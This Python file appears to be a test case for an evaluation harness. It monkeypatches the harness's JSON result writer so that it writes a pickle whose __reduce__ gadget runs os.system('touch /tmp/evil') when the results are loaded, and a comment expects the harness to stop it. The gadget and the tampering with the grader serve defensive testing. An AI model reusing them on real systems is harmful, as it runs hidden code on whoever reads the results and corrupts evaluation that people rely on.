"""Results that run code when they are read.

How: where JSON should be is a pickle whose loading calls `os.system`. Seen: everywhere that results are pickled; field
guides (2026-03) have harnesses that do. Defence: messages are JSON and safetensors, never pickle.
"""
# expected: COMPILE_ERROR process_died

import os
import pickle

from forging import custom_kernel  # noqa: F401

from harness.trace import session

real = session._write_json


class Gadget:
    def __reduce__(self):
        return os.system, ("touch /tmp/evil",)


def write(path, document):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(pickle.dumps(Gadget()))


session._write_json = write
